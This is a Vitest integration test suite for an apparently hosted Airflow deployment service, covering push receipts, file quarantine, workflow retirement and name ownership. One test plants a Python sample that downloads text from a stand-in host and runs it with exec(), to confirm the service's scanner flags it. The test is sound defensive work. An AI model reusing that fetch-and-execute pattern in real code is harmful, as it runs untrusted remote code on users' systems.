import { describe, expect, inject, test } from 'vitest';
import { clientOf, connectRepository, receiptOf, runToEnd, unique } from '../support/cloud.ts';
import { dagSource } from '../support/dags.ts';

const cloud = inject('cloud');
const client = clientOf(cloud);

describe('a push', () => {
  test('goes live with a receipt that names the commit and the time of every stage', async () => {
    const { name, clone } = await connectRepository(cloud);
    const dagId = unique('nightly');
    await clone.write({ 'dags/nightly.py': dagSource(dagId) });
    const { commit } = await clone.push('add the nightly workflow');

    const receipt = await receiptOf(cloud, name, commit);
    expect(receipt).toMatchObject({ outcome: 'live', commit, author: 'Kim', message: 'add the nightly workflow' });
    expect(receipt.files).toMatchObject([{ path: 'nightly.py', outcome: 'live', dagIds: [dagId] }]);
    const { fetched = 0, checked = 0, published = 0, visible = 0 } = receipt.stages;
    expect([0, fetched, checked, published, visible]).toEqual(
      [0, fetched, checked, published, visible].sort((a, b) => a - b),
    );
    expect(visible).toBeGreaterThan(0);
    expect(receipt.files[0]?.airflowUrl).toContain(`/dags/${dagId}`);

    const workflow = await client.call('workflows.get', { workflow: dagId });
    expect(workflow).toMatchObject({ repository: name, path: 'nightly.py', state: 'live', commit });
    expect((await client.call('repositories.get', { repository: name })).live?.commit).toBe(commit);
  });

  test('that changes only a module changes what runs', async () => {
    const dagId = unique('modular');
    const { name, clone } = await connectRepository(cloud);
    await clone.write({
      'dags/modular.py': dagSource(dagId, { imports: 'from helpers import answer', expression: 'answer()' }),
      'dags/helpers.py': 'def answer():\n    return "first"\n',
    });
    await receiptOf(cloud, name, (await clone.push('first')).commit);
    expect((await runToEnd(cloud, dagId)).log).toContain('result: first');

    await clone.write({ 'dags/helpers.py': 'def answer():\n    return "second"\n' });
    const receipt = await receiptOf(cloud, name, (await clone.push('second')).commit);
    expect(receipt.files).toMatchObject([{ path: 'modular.py', outcome: 'live' }]);
    expect((await runToEnd(cloud, dagId)).log).toContain('result: second');
  });

  test('finds its own module where another repository has one of the same name', async () => {
    const answers = await Promise.all(
      ['north', 'south'].map(async (side) => {
        const dagId = unique(side);
        const { name, clone } = await connectRepository(cloud);
        await clone.write({
          'dags/flow.py': dagSource(dagId, { imports: 'from helpers import side', expression: 'side()' }),
          'dags/helpers.py': `def side():\n    return "${side}"\n`,
        });
        await receiptOf(cloud, name, (await clone.push('flow')).commit);
        return (await runToEnd(cloud, dagId)).log;
      }),
    );
    expect(answers[0]).toContain('result: north');
    expect(answers[1]).toContain('result: south');
  });

  test('brings SQL, templates and files beside the workflow', async () => {
    const dagId = unique('templated');
    const { name, clone } = await connectRepository(cloud);
    await clone.write({
      'dags/sales/templated.py': `
from pathlib import Path
from airflow.providers.standard.operators.bash import BashOperator
from airflow.sdk import DAG, task

RATE = Path(__file__).parent.joinpath("rate.txt").read_text().strip()

with DAG(${JSON.stringify(dagId)}, schedule=None, catchup=False):
    @task
    def read():
        print("sql:", Path(__file__).with_name("query.sql").read_text(), "rate:", RATE)

    BashOperator(task_id="render", bash_command="say.sh") >> read()
`,
      'dags/sales/say.sh': 'echo "rendered for {{ dag.dag_id }}"\n',
      'dags/sales/query.sql': 'select 42',
      'dags/sales/rate.txt': '7\n',
    });
    const receipt = await receiptOf(cloud, name, (await clone.push('templated')).commit);
    expect(receipt.outcome).toBe('live');
    const { run, log } = await runToEnd(cloud, dagId);
    expect(run.state).toBe('success');
    expect(log).toContain(`rendered for ${dagId}`);
    expect(log).toContain('sql: select 42 rate: 7');
  });

  test('quarantines a bad file alone and keeps its last good version live', async () => {
    const [good, fragile] = [unique('good'), unique('fragile')];
    const { name, clone } = await connectRepository(cloud);
    await clone.write({
      'dags/good.py': dagSource(good),
      'dags/fragile.py': dagSource(fragile, { expression: '"last good"' }),
    });
    await receiptOf(cloud, name, (await clone.push('both good')).commit);

    await clone.write({
      'dags/good.py': dagSource(good, { expression: '"newer"' }),
      'dags/fragile.py': `${dagSource(fragile)}\ndef broken(:\n    pass\n`,
    });
    const partial = await receiptOf(cloud, name, (await clone.push('one bad')).commit);
    expect(partial.outcome).toBe('partial');
    const bad = partial.files.find((file) => file.path === 'fragile.py');
    expect(bad).toMatchObject({ outcome: 'quarantined' });
    expect(bad?.findings[0]).toMatchObject({ severity: 'error', line: 17 });
    expect(bad?.findings[0]?.message).not.toBe('');
    expect((await runToEnd(cloud, fragile)).log).toContain('result: last good');
    expect((await runToEnd(cloud, good)).log).toContain('result: newer');

    await clone.write({ 'dags/fragile.py': dagSource(fragile, { expression: '"repaired"' }) });
    expect((await receiptOf(cloud, name, (await clone.push('repaired')).commit)).outcome).toBe('live');
    expect((await runToEnd(cloud, fragile)).log).toContain('result: repaired');
  });

  test('quarantines a threat alone, with its place and what it means, and what imports it', async () => {
    const [good, bad, importing] = [unique('good'), unique('bad'), unique('importing')];
    const { name, clone } = await connectRepository(cloud);
    const runsDownload = 'import requests\n\n\ndef act():\n    exec(requests.get("https://x.example").text)\n';
    await clone.write({
      'dags/good.py': dagSource(good),
      'dags/bad.py': dagSource(bad, { imports: runsDownload }),
      'dags/helpers.py': runsDownload,
      'dags/importing.py': dagSource(importing, { imports: 'from helpers import act' }),
    });
    const receipt = await receiptOf(cloud, name, (await clone.push('a threat')).commit);
    expect(receipt.outcome).toBe('partial');
    expect(receipt.files).toMatchObject([
      {
        path: 'bad.py',
        outcome: 'quarantined',
        findings: expect.arrayContaining([
          expect.objectContaining({ rule: 'downloaded-code', severity: 'critical', line: 7, column: 5 }),
        ]),
      },
      { path: 'good.py', outcome: 'live' },
      { path: 'importing.py', outcome: 'quarantined', findings: [{ rule: 'broken-import' }] },
    ]);
  });

  test('that only Airflow finds broken is put back, with the file and line that broke it', async () => {
    const dagId = unique('importing');
    const { name, clone } = await connectRepository(cloud);
    await clone.write({ 'dags/importing.py': dagSource(dagId, { expression: '"before"' }) });
    await receiptOf(cloud, name, (await clone.push('good')).commit);

    await clone.write({ 'dags/importing.py': dagSource(dagId, { imports: 'import no_such_package_anywhere' }) });
    const receipt = await receiptOf(cloud, name, (await clone.push('missing package')).commit);
    expect(receipt.files).toMatchObject([{ path: 'importing.py', outcome: 'quarantined', findings: [{ line: 3 }] }]);
    expect(receipt.files[0]?.findings[0]?.message).toContain('no_such_package_anywhere');
    expect((await runToEnd(cloud, dagId)).log).toContain('result: before');
  });

  test('that deletes a file retires its workflow', async () => {
    const [kept, dropped] = [unique('kept'), unique('dropped')];
    const { name, clone } = await connectRepository(cloud);
    await clone.write({ 'dags/kept.py': dagSource(kept), 'dags/dropped.py': dagSource(dropped) });
    await receiptOf(cloud, name, (await clone.push('two')).commit);

    await clone.remove('dags/dropped.py');
    const receipt = await receiptOf(cloud, name, (await clone.push('one')).commit);
    expect(receipt.files.find((file) => file.path === 'dropped.py')).toMatchObject({ outcome: 'retired' });
    expect((await client.call('workflows.get', { workflow: dropped })).state).toBe('retired');
    await expect(client.call('runs.trigger', { workflow: dropped })).rejects.toThrow(/retired/);
    expect((await runToEnd(cloud, kept)).run.state).toBe('success');
  });

  test('starts new workflows paused where the repository says so, and the receipt says it', async () => {
    const dagId = unique('paused');
    const { name, clone } = await connectRepository(cloud, { newWorkflows: 'paused' });
    await clone.write({ 'dags/paused.py': dagSource(dagId) });
    const receipt = await receiptOf(cloud, name, (await clone.push('paused')).commit);
    expect(receipt.files).toMatchObject([{ outcome: 'paused', dagIds: [dagId] }]);
    expect((await client.call('workflows.get', { workflow: dagId })).state).toBe('paused');
  });

  test('may not take a workflow name that another repository owns', async () => {
    const dagId = unique('contested');
    const [first, second] = [await connectRepository(cloud), await connectRepository(cloud)];
    await first.clone.write({ 'dags/flow.py': dagSource(dagId, { expression: '"first"' }) });
    await receiptOf(cloud, first.name, (await first.clone.push('claim')).commit);
    await second.clone.write({ 'dags/other.py': dagSource(dagId, { expression: '"second"' }) });
    const receipt = await receiptOf(cloud, second.name, (await second.clone.push('contest')).commit);
    expect(receipt.files).toMatchObject([{ path: 'other.py', outcome: 'quarantined' }]);
    expect(receipt.files[0]?.findings[0]?.message).toContain(first.name);
    expect((await runToEnd(cloud, dagId)).log).toContain('result: first');
  });

  test('that moves a workflow to another file while the old file breaks leaves it where it was', async () => {
    const [stays, moves] = [unique('stays'), unique('moves')];
    const { name, clone } = await connectRepository(cloud);
    const both = dagSource(stays) + dagSource(moves, { expression: '"old file"' });
    await clone.write({ 'dags/a.py': both });
    await receiptOf(cloud, name, (await clone.push('one file')).commit);
    await clone.write({
      'dags/a.py': dagSource(stays, { imports: 'import no_such_package_anywhere' }),
      'dags/b.py': dagSource(moves, { expression: '"new file"' }),
    });
    const broken = await receiptOf(cloud, name, (await clone.push('two files, one broken')).commit);
    const outcomes = Object.fromEntries(broken.files.map((file) => [file.path, file.outcome]));
    expect(outcomes).toEqual({ 'a.py': 'quarantined', 'b.py': 'quarantined' });
    expect((await runToEnd(cloud, moves)).log).toContain('result: old file');

    await clone.write({ 'dags/a.py': dagSource(stays) });
    expect((await receiptOf(cloud, name, (await clone.push('repaired')).commit)).outcome).toBe('live');
    expect((await runToEnd(cloud, moves)).log).toContain('result: new file');
  });

  test('whose computed workflow name another file has already is refused, and the first goes on running', async () => {
    const dagId = unique('computed');
    const { name, clone } = await connectRepository(cloud);
    await clone.write({ 'dags/first.py': dagSource(dagId, { expression: '"first"' }) });
    await receiptOf(cloud, name, (await clone.push('first')).commit);
    await clone.write({
      'dags/second.py': dagSource('PLACE', { expression: '"second"' }).replace('"PLACE"', `"".join(["${dagId}"])`),
    });
    const receipt = await receiptOf(cloud, name, (await clone.push('second')).commit);
    expect(receipt.files.find((file) => file.path === 'second.py')).toMatchObject({ outcome: 'quarantined' });
    expect((await runToEnd(cloud, dagId)).log).toContain('result: first');
  });

  test('whose workflow names are made in a loop goes live too', async () => {
    const base = unique('looped');
    const { name, clone } = await connectRepository(cloud);
    await clone.write({
      'dags/looped.py': `
from airflow.sdk import DAG
from airflow.providers.standard.operators.empty import EmptyOperator

for region in ("eu", "us"):
    with DAG("${base}_" + region, schedule=None, catchup=False):
        EmptyOperator(task_id="nothing")
`,
    });
    const receipt = await receiptOf(cloud, name, (await clone.push('loop')).commit);
    expect(receipt.files[0]?.dagIds.toSorted()).toEqual([`${base}_eu`, `${base}_us`]);
    expect((await client.call('workflows.get', { workflow: `${base}_us` })).repository).toBe(name);
  });
});
